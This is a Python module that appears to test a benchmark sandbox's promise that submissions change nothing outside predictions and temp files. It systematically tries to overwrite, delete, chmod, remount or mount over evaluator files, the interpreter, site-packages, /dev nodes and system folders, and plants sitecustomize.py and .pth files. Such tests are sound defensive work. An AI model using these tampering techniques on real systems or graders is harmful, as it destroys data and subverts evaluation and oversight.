"""Promise 3: nothing is changed outside of predictions and temporary files.

Evaluator, interpreter, packages, its own folder, leaderboard, baselines, other runs, home: written, replaced,
linked, renamed over, given other rights, times or attributes, by every way to name them.
"""

import ctypes
import mmap
import os
import sys
from pathlib import Path

from my_submission.attack import LIBC, MIXTURES, TOKEN, WORLD, Model, attempt, known_paths, syscall

MS_REMOUNT, MS_BIND = 32, 4096
FOLDERS = ("/", "/usr", "/usr/local/bin", "/usr/lib", "/etc", "/bin", "/dev", "/proc", "/sys", "/run", "/var", "/home",
           "/root", "/sdx", "/sdx/shared", "/proc/self/task", "/etc/alternatives", "/dev/fd")  # fmt: skip


class MySeparationModel(Model):
    def attack(self) -> None:
        own = Path(__file__).parent
        for path in {*known_paths(), str(own / "user_config.py"), str(own / "attack.py"), sys.executable}:
            self.change(path)
        places = [Path(path).parent for path in known_paths()] + [
            own,
            own.parent,
            Path(MIXTURES),
            Path(sys.prefix),
        ]
        places += [Path(WORLD["site_packages"]), Path(WORLD["repository"], "evaluator", "__pycache__")]
        for place in {*map(str, places), f"{MIXTURES}/{self.track}", *FOLDERS}:
            self.add(place)
        self.change(f"{MIXTURES}/{self.track}/mixture.wav")
        for node in ("null", "zero", "full", "random", "urandom"):
            attempt(f"rights of /dev/{node}", lambda path=f"/dev/{node}": os.chmod(path, 0o600) or "changed")
            attempt(f"remove /dev/{node}", lambda path=f"/dev/{node}": os.unlink(path) or "removed")
        for place in ("/usr", "/", MIXTURES, str(own), WORLD["site_packages"]):
            attempt(f"{place} writable again", lambda at=place: _remount(at))

    def change(self, path: str) -> None:
        for name in (path, f"/proc/self/root{path}"):
            for mode in ("ab", "r+b", "wb"):
                attempt(f"open {name} {mode}", lambda to=name, how=mode: _opened(to, how))
        attempt(f"truncate {path}", lambda: os.truncate(path, 0) or "cut")
        attempt(f"remove {path}", lambda: os.unlink(path) or "removed")
        attempt(f"rename {path}", lambda: os.rename(path, f"{path}.old") or "renamed")
        attempt(f"rename over {path}", lambda: _over(path))
        attempt(f"link to {path}", lambda: os.link(path, f"/tmp/{TOKEN}-link") or "linked")
        attempt(f"rights of {path}", lambda: os.chmod(path, 0o777) or "changed")
        attempt(f"owner of {path}", lambda: os.chown(path, os.getuid(), -1) or "changed")
        attempt(f"times of {path}", lambda: os.utime(path, (0, 0)) or "changed")
        attempt(f"attribute of {path}", lambda: os.setxattr(path, "user.evil", b"1") or "set")
        attempt(f"map {path}", lambda: _map(path))

        def again() -> object:
            descriptor = os.open(path, os.O_RDONLY)
            return os.open(f"/proc/self/fd/{descriptor}", os.O_RDWR)

        attempt(f"open what is open of {path}", again)

    def add(self, folder: str) -> None:
        for name in (f"{TOKEN}.py", f"{TOKEN}.pth", "sitecustomize.py", "usercustomize.py", "__pycache__"):
            path = f"{folder}/{name}"
            if not os.path.lexists(path):
                attempt(f"make {path}", lambda to=path: Path(to).write_text("raise SystemExit") and "made")
                attempt(f"make the folder {path}", lambda to=path: os.mkdir(to) or "made")
                attempt(f"make the link {path}", lambda to=path: os.symlink("/tmp", to) or "made")
                attempt(f"make the pipe {path}", lambda to=path: os.mkfifo(to) or "made")

        def without_name() -> object:
            descriptor = os.open(folder, os.O_TMPFILE | os.O_RDWR, 0o600)
            if (
                LIBC.linkat(
                    -100, f"/proc/self/fd/{descriptor}".encode(), -100, f"{folder}/{TOKEN}".encode(), 0x400
                )
                == 0
            ):
                return "linked"
            return "opened"

        attempt(f"a file without a name in {folder}", without_name)
        attempt(
            f"mount over {folder}",
            lambda: syscall("mount", b"none\0", folder.encode(), b"tmpfs\0", 0, 0) == 0,
        )


def _opened(path: str, mode: str) -> object:
    with open(path, mode):
        return "opened"


def _over(path: str) -> object:
    source = f"/tmp/{TOKEN}-new"
    Path(source).write_text("evil")
    os.rename(source, path)
    return "replaced"


def _map(path: str) -> object:
    with (
        open(path, "rb") as file,
        mmap.mmap(file.fileno(), 0, mmap.MAP_SHARED, mmap.PROT_WRITE | mmap.PROT_READ),
    ):
        return "mapped"


def _remount(path: str) -> object:
    source = ctypes.create_string_buffer(b"none")
    return (
        syscall("mount", source, path.encode(), ctypes.create_string_buffer(1), MS_REMOUNT | MS_BIND, 0) == 0
    )
